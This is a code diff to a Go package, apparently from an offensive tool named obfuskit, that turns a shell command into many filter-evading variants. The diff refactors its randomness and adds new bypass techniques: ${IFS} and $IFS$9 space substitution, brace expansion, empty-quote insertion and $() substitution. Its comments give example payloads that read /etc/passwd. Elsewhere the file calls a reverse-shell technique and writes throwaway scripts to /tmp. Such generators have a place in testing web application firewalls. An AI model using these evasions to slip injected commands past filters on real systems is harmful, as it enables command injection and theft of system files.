@@ -2,29 +2,35 @@ package command
 
 import (
 	"fmt"
-	"math/rand"
 	"obfuskit/internal/evasions"
 	"obfuskit/types"
 	"strings"
-	"time"
 )
 
 // UnixCmdVariants generates various Unix/Linux command evasion techniques
 // based on the specified obfuscation level
 func UnixCmdVariants(payload string, level types.EvasionLevel) []string {
+	return UnixCmdVariantsWithRand(evasions.DefaultRand, payload, level)
+}
+
+// UnixCmdVariantsWithRand is UnixCmdVariants drawing randomness from rng
+func UnixCmdVariantsWithRand(rng evasions.Rand, payload string, level types.EvasionLevel) []string {
 	var variants []string
 
 	// Basic evasion techniques
 	variants = append(variants,
-		backslashEvasion(payload),      // Using backslashes between characters
-		quoteVariations(payload),       // Different quote styles
-		spacingTechniques(payload),     // Various spacing techniques
-		commandChaining(payload),       // Using ; && and || for chaining
-		binaryPathObfuscation(payload), // /usr/bin/ path variations
-		inlineComments(payload),        // Using inline comments #
-		redirectionNoise(payload),      // Adding redirection that does nothing
-		variableAssignment(payload),    // Simple variable assignment
-		randomizedCase(payload),        // Random capitalization where possible
+		backslashEvasion(rng, payload),      // Using backslashes between characters
+		quoteVariations(rng, payload),       // Different quote styles
+		spacingTechniques(rng, payload),     // Various spacing techniques
+		commandChaining(rng, payload),       // Using ; && and || for chaining
+		binaryPathObfuscation(rng, payload), // /usr/bin/ path variations
+		inlineComments(rng, payload),        // Using inline comments #
+		redirectionNoise(rng, payload),      // Adding redirection that does nothing
+		variableAssignment(payload),         // Simple variable assignment
+		randomizedCase(rng, payload),        // Random capitalization where possible
+		ifsSpaces(payload),                  // ${IFS} in place of spaces
+		braceExpansion(payload),             // {cmd,arg} brace expansion
+		keywordQuoteInsertion(payload),      // Empty quotes between command characters
 	)
 
 	if level == types.EvasionLevelBasic {
@@ -33,17 +39,19 @@ func UnixCmdVariants(payload string, level types.EvasionLevel) []string {
 
 	// Medium level adds more complex techniques
 	variants = append(variants,
-		commandEvaluation(payload),     // Using eval and similar constructs
-		processSubstitution(payload),   // $() process substitution
-		hereStringTechniques(payload),  // Using here-strings
-		ifs(payload),                   // IFS (Internal Field Separator) modification
-		backticksSubstitution(payload), // Using backticks for command substitution
-		stringConcatenation(payload),   // String concatenation techniques
-		doubleEvaluation(payload),      // Multiple levels of eval
+		commandEvaluation(rng, payload),   // Using eval and similar constructs
+		processSubstitution(payload),      // $() process substitution
+		hereStringTechniques(payload),     // Using here-strings
+		ifs(payload),                      // IFS (Internal Field Separator) modification
+		backticksSubstitution(payload),    // Using backticks for command substitution
+		stringConcatenation(rng, payload), // String concatenation techniques
+		doubleEvaluation(payload),         // Multiple levels of eval
+		ifsNineSpaces(payload),            // $IFS$9 in place of spaces
+		dollarParenSubstitution(payload),  // $() instead of backticks
 	)
 
-	variants = append(variants, wildcardPathEvasion(payload)...)
-	variants = append(variants, hexEncoding(payload)...)
+	variants = append(variants, wildcardPathEvasion(rng, payload)...)
+	variants = append(variants, hexEncoding(rng, payload)...)
 
 	// Return medium variants if level is Medium
 	if level == types.EvasionLevelMedium {
@@ -52,25 +60,25 @@ func UnixCmdVariants(payload string, level types.EvasionLevel) []string {
 
 	// Advanced level adds the most complex evasion techniques
 	variants = append(variants,
-		base64Techniques(payload),        // Base64 encoding/decoding
-		arithmeticExpansion(payload),     // Using arithmetic expansion
-		revShellTechniques(payload),      // Reverse shell techniques
-		fileDescriptorTricks(payload),    // File descriptor manipulation
-		unicodeEscapes(payload),          // Unicode escape sequences
-		runtimeScriptGeneration(payload), // Generate script at runtime
-		functionObfuscation(payload),     // Function-based obfuscation
-		advancedIFSTricks(payload),       // Advanced IFS manipulation techniques
+		base64Techniques(payload),         // Base64 encoding/decoding
+		arithmeticExpansion(payload),      // Using arithmetic expansion
+		revShellTechniques(payload),       // Reverse shell techniques
+		fileDescriptorTricks(payload),     // File descriptor manipulation
+		unicodeEscapes(rng, payload),      // Unicode escape sequences
+		runtimeScriptGeneration(payload),  // Generate script at runtime
+		functionObfuscation(rng, payload), // Function-based obfuscation
+		advancedIFSTricks(payload),        // Advanced IFS manipulation techniques
 	)
 
 	return evasions.UniqueStrings(variants)
 }
 
 // Basic evasion techniques
-func backslashEvasion(payload string) string {
+func backslashEvasion(rng evasions.Rand, payload string) string {
 	result := ""
 	for _, char := range payload {
 		// Only backslash-escape regular characters, not special chars
-		if rand.Intn(3) == 0 && char > 32 && char < 127 && char != '\\' && char != '\'' && char != '"' {
+		if rng.Intn(3) == 0 && char > 32 && char < 127 && char != '\\' && char != '\'' && char != '"' {
 			result += "\\" + string(char)
 		} else {
 			result += string(char)
@@ -79,7 +87,7 @@ func backslashEvasion(payload string) string {
 	return result
 }
 
-func quoteVariations(payload string) string {
+func quoteVariations(rng evasions.Rand, payload string) string {
 	words := strings.Fields(payload)
 	result := ""
 
@@ -90,8 +98,8 @@ func quoteVariations(payload string) string {
 			result += " "
 		}
 
-		if rand.Intn(3) == 0 {
-			quoteType := quoteTypes[rand.Intn(len(quoteTypes))]
+		if rng.Intn(3) == 0 {
+			quoteType := quoteTypes[rng.Intn(len(quoteTypes))]
 			result += quoteType + word + quoteType
 		} else {
 			result += word
@@ -101,39 +109,39 @@ func quoteVariations(payload string) string {
 	return result
 }
 
-func spacingTechniques(payload string) string {
+func spacingTechniques(rng evasions.Rand, payload string) string {
 	words := strings.Fields(payload)
 	result := words[0]
 
 	for i := 1; i < len(words); i++ {
 		// Add random spaces or tabs
-		spacesCount := 1 + rand.Intn(3)
-		if rand.Intn(2) == 0 {
+		spacesCount := 1 + rng.Intn(3)
+		if rng.Intn(2) == 0 {
 			result += strings.Repeat(" ", spacesCount) + words[i]
 		} else {
-			result += strings.Repeat("\t", 1+rand.Intn(2)) + words[i]
+			result += strings.Repeat("\t", 1+rng.Intn(2)) + words[i]
 		}
 	}
 
 	return result
 }
 
-func commandChaining(payload string) string {
+func commandChaining(rng evasions.Rand, payload string) string {
 	separators := []string{" ; ", " && ", " || "}
-	sep := separators[rand.Intn(len(separators))]
+	sep := separators[rng.Intn(len(separators))]
 
 	// Add a harmless command
 	harmlessCommands := []string{"true", ":", "/bin/true"}
-	harmless := harmlessCommands[rand.Intn(len(harmlessCommands))]
+	harmless := harmlessCommands[rng.Intn(len(harmlessCommands))]
 
-	if rand.Intn(2) == 0 {
+	if rng.Intn(2) == 0 {
 		return harmless + sep + payload
 	} else {
 		return payload + sep + harmless
 	}
 }
 
-func binaryPathObfuscation(payload string) string {
+func binaryPathObfuscation(rng evasions.Rand, payload string) string {
 	parts := strings.Fields(payload)
 	if len(parts) == 0 {
 		return payload
@@ -147,7 +155,7 @@ func binaryPathObfuscation(payload string) string {
 	}
 
 	cmd := parts[0]
-	path := pathVariations[rand.Intn(len(pathVariations))]
+	path := pathVariations[rng.Intn(len(pathVariations))]
 
 	// Only apply to commands that don't already have a path
 	if !strings.Contains(cmd, "/") {
@@ -161,7 +169,7 @@ func binaryPathObfuscation(payload string) string {
 	return strings.Join(parts, " ")
 }
 
-func inlineComments(payload string) string {
+func inlineComments(rng evasions.Rand, payload string) string {
 	words := strings.Fields(payload)
 	if len(words) <= 1 {
 		return payload
@@ -169,7 +177,7 @@ func inlineComments(payload string) string {
 
 	result := words[0]
 	for i := 1; i < len(words); i++ {
-		if rand.Intn(4) == 0 {
+		if rng.Intn(4) == 0 {
 			// Add an inline comment between words
 			result += " # Ignored comment\n" + words[i]
 		} else {
@@ -196,7 +204,7 @@ func variableAssignment(payload string) string {
 	return result
 }
 
-func redirectionNoise(payload string) string {
+func redirectionNoise(rng evasions.Rand, payload string) string {
 	redirections := []string{
 		" 2>/dev/null",
 		" >/dev/null",
@@ -204,11 +212,11 @@ func redirectionNoise(payload string) string {
 	}
 
 	// Add 1 redirection
-	redirection := redirections[rand.Intn(len(redirections))]
+	redirection := redirections[rng.Intn(len(redirections))]
 	return payload + redirection
 }
 
-func randomizedCase(payload string) string {
+func randomizedCase(rng evasions.Rand, payload string) string {
 	// Only apply to commands where case doesn't matter
 	parts := strings.Fields(payload)
 	if len(parts) == 0 {
@@ -220,7 +228,7 @@ func randomizedCase(payload string) string {
 
 	// Only uppercase some letters in the command
 	for _, char := range cmd {
-		if char >= 'a' && char <= 'z' && rand.Intn(3) == 0 {
+		if char >= 'a' && char <= 'z' && rng.Intn(3) == 0 {
 			result += strings.ToUpper(string(char))
 		} else {
 			result += string(char)
@@ -233,18 +241,17 @@ func randomizedCase(payload string) string {
 
 // Medium evasion techniques
 
-func randomVarName() string {
+func randomVarName(rng evasions.Rand) string {
 	const letters = "abcdefghijklmnopqrstuvwxyz"
-	rand.Seed(time.Now().UnixNano())
-	length := rand.Intn(3) + 2 // random length between 2-4
+	length := rng.Intn(3) + 2 // random length between 2-4
 	var name strings.Builder
 	for i := 0; i < length; i++ {
-		name.WriteByte(letters[rand.Intn(len(letters))])
+		name.WriteByte(letters[rng.Intn(len(letters))])
 	}
 	return name.String()
 }
 
-func splitStringRandomly(s string) []string {
+func splitStringRandomly(rng evasions.Rand, s string) []string {
 	if len(s) <= 2 {
 		return []string{s}
 	}
@@ -253,11 +260,11 @@ func splitStringRandomly(s string) []string {
 	start := 0
 	splits := 1
 	if len(s) > 5 {
-		splits = rand.Intn(2) + 2 // 2 or 3 parts
+		splits = rng.Intn(2) + 2 // 2 or 3 parts
 	}
 	splitPoints := []int{}
 	for i := 0; i < splits-1; i++ {
-		point := rand.Intn(len(s)-1) + 1
+		point := rng.Intn(len(s)-1) + 1
 		splitPoints = append(splitPoints, point)
 	}
 	splitPoints = append(splitPoints, len(s))
@@ -271,7 +278,7 @@ func splitStringRandomly(s string) []string {
 	return parts
 }
 
-func stringConcatenation(payload string) string {
+func stringConcatenation(rng evasions.Rand, payload string) string {
 	parts := strings.Fields(payload)
 	if len(parts) == 0 {
 		return payload
@@ -281,10 +288,10 @@ func stringConcatenation(payload string) string {
 	reassembledParts := []string{}
 
 	for _, part := range parts {
-		fragments := splitStringRandomly(part)
+		fragments := splitStringRandomly(rng, part)
 		varNames := []string{}
 		for _, frag := range fragments {
-			varName := randomVarName()
+			varName := randomVarName(rng)
 			assignments = append(assignments, fmt.Sprintf("%s='%s'", varName, frag))
 			varNames = append(varNames, varName)
 		}
@@ -305,7 +312,7 @@ func sortInts(nums []int) {
 	}
 }
 
-func hexEncoding(payload string) []string {
+func hexEncoding(rng evasions.Rand, payload string) []string {
 	parts := strings.Fields(payload)
 	if len(parts) == 0 {
 		return []string{payload}
@@ -316,7 +323,7 @@ func hexEncoding(payload string) []string {
 	hexCmd := ""
 
 	for _, c := range cmd {
-		if rand.Intn(2) == 0 {
+		if rng.Intn(2) == 0 {
 			hexCmd += fmt.Sprintf("\\x%02x", c)
 		} else {
 			hexCmd += string(c)
@@ -329,9 +336,9 @@ func hexEncoding(payload string) []string {
 	}
 
 	argsVariants := [][]string{
-		obfuscateArgs(parts[1:], onlyQuestionMark),
-		obfuscateArgs(parts[1:], onlyStar),
-		obfuscateArgs(parts[1:], mixStarQuestionMark),
+		obfuscateArgs(parts[1:], evasions.Bind(rng, onlyQuestionMark)),
+		obfuscateArgs(parts[1:], evasions.Bind(rng, onlyStar)),
+		obfuscateArgs(parts[1:], evasions.Bind(rng, mixStarQuestionMark)),
 	}
 
 	var finalPayloads []string
@@ -344,13 +351,13 @@ func hexEncoding(payload string) []string {
 	return finalPayloads
 }
 
-func commandEvaluation(payload string) string {
+func commandEvaluation(rng evasions.Rand, payload string) string {
 	evalFunctions := []string{
 		"eval",
 		"bash -c",
 	}
 
-	evalFunc := evalFunctions[rand.Intn(len(evalFunctions))]
+	evalFunc := evalFunctions[rng.Intn(len(evalFunctions))]
 
 	if evalFunc == "eval" {
 		return evalFunc + " '" + payload + "'"
@@ -372,6 +379,61 @@ func ifs(payload string) string {
 	return "IFS=' '; " + payload
 }
 
+// ifsSpaces replaces each space with ${IFS}, which the shell splits on like a
+// space: cat${IFS}/etc/passwd
+func ifsSpaces(payload string) string {
+	return strings.Join(strings.Fields(payload), "${IFS}")
+}
+
+// ifsNineSpaces replaces each space with $IFS$9; the empty $9 ends the
+// variable name so the next word can start with a letter: cat$IFS$9/etc/passwd
+func ifsNineSpaces(payload string) string {
+	return strings.Join(strings.Fields(payload), "$IFS$9")
+}
+
+// braceExpansion writes the command as a brace expansion, which bash expands
+// to space-separated words without a space in the payload: {cat,/etc/passwd}
+func braceExpansion(payload string) string {
+	parts := strings.Fields(payload)
+	if len(parts) < 2 {
+		return payload
+	}
+	return "{" + strings.Join(parts, ",") + "}"
+}
+
+// keywordQuoteInsertion puts empty quote pairs, alternating single and
+// double, between the characters of the command name; the shell removes them
+func keywordQuoteInsertion(payload string) string {
+	parts := strings.Fields(payload)
+	if len(parts) == 0 {
+		return payload
+	}
+	quotes := []string{"''", `""`}
+	var keyword strings.Builder
+	for i, char := range []rune(parts[0]) {
+		if i > 0 {
+			keyword.WriteString(quotes[(i-1)%len(quotes)])
+		}
+		keyword.WriteRune(char)
+	}
+	parts[0] = keyword.String()
+	return strings.Join(parts, " ")
+}
+
+// dollarParenSubstitution is backticksSubstitution with $() instead of
+// backticks: $(echo cat) /etc/passwd
+func dollarParenSubstitution(payload string) string {
+	parts := strings.Fields(payload)
+	if len(parts) == 0 {
+		return payload
+	}
+	args := ""
+	if len(parts) > 1 {
+		args = " " + strings.Join(parts[1:], " ")
+	}
+	return fmt.Sprintf("$(echo %s)%s", parts[0], args)
+}
+
 func backticksSubstitution(payload string) string {
 	parts := strings.Fields(payload)
 	if len(parts) == 0 {
@@ -431,7 +493,7 @@ func fileDescriptorTricks(payload string) string {
 	return fmt.Sprintf("{ %s; } 2>&1", payload)
 }
 
-func unicodeEscapes(payload string) string {
+func unicodeEscapes(rng evasions.Rand, payload string) string {
 	parts := strings.Fields(payload)
 	if len(parts) == 0 {
 		return payload
@@ -442,7 +504,7 @@ func unicodeEscapes(payload string) string {
 
 	// Only convert a few characters to unicode escapes
 	for _, c := range cmd {
-		if rand.Intn(3) == 0 && c > 32 && c < 127 {
+		if rng.Intn(3) == 0 && c > 32 && c < 127 {
 			unicodeCmd += fmt.Sprintf("\\u%04x", c)
 		} else {
 			unicodeCmd += string(c)
@@ -458,14 +520,14 @@ func runtimeScriptGeneration(payload string) string {
 	return fmt.Sprintf("cat > /tmp/.s$$ << 'EOF'\n#!/bin/bash\n%s\nEOF\nchmod +x /tmp/.s$$ && /tmp/.s$$ && rm /tmp/.s$$", payload)
 }
 
-func functionObfuscation(payload string) string {
+func functionObfuscation(rng evasions.Rand, payload string) string {
 	parts := strings.Fields(payload)
 	if len(parts) == 0 {
 		return payload
 	}
 
 	// Create a function with a random name
-	funcName := fmt.Sprintf("f%d", rand.Intn(1000))
+	funcName := fmt.Sprintf("f%d", rng.Intn(1000))
 
 	args := ""
 	if len(parts) > 1 {
@@ -494,7 +556,7 @@ func advancedIFSTricks(payload string) string {
 	cat /e??/p?ss??
 */
 
-func wildcardPathEvasion(payload string) []string {
+func wildcardPathEvasion(rng evasions.Rand, payload string) []string {
 
 	if payload == "" || !strings.Contains(payload, "/") {
 		return nil
@@ -517,9 +579,9 @@ func wildcardPathEvasion(payload string) []string {
 
 	// Process arguments
 	argsVariants := [][]string{
-		obfuscateArgs(parts[1:], onlyQuestionMark),
-		obfuscateArgs(parts[1:], onlyStar),
-		obfuscateArgs(parts[1:], mixStarQuestionMark),
+		obfuscateArgs(parts[1:], evasions.Bind(rng, onlyQuestionMark)),
+		obfuscateArgs(parts[1:], evasions.Bind(rng, onlyStar)),
+		obfuscateArgs(parts[1:], evasions.Bind(rng, mixStarQuestionMark)),
 	}
 
 	var finalPayloads []string
@@ -561,12 +623,12 @@ func obfuscateArgs(args []string, obfuscateFunc func(string) string) []string {
 	return obfuscated
 }
 
-func onlyQuestionMark(s string) string {
+func onlyQuestionMark(rng evasions.Rand, s string) string {
 	var b strings.Builder
 	for _, ch := range s {
 		if ch == '/' {
 			b.WriteRune(ch)
-		} else if rand.Intn(3) == 0 {
+		} else if rng.Intn(3) == 0 {
 			b.WriteByte('?')
 		} else {
 			b.WriteRune(ch)
@@ -575,12 +637,12 @@ func onlyQuestionMark(s string) string {
 	return b.String()
 }
 
-func onlyStar(s string) string {
+func onlyStar(rng evasions.Rand, s string) string {
 	var b strings.Builder
 	for _, ch := range s {
 		if ch == '/' {
 			b.WriteRune(ch)
-		} else if rand.Intn(3) == 0 {
+		} else if rng.Intn(3) == 0 {
 			b.WriteByte('*')
 		} else {
 			b.WriteRune(ch)
@@ -589,13 +651,13 @@ func onlyStar(s string) string {
 	return b.String()
 }
 
-func mixStarQuestionMark(s string) string {
+func mixStarQuestionMark(rng evasions.Rand, s string) string {
 	var b strings.Builder
 	for _, ch := range s {
 		if ch == '/' {
 			b.WriteRune(ch)
 		} else {
-			switch rand.Intn(3) {
+			switch rng.Intn(3) {
 			case 0:
 				b.WriteByte('?')
 			case 1: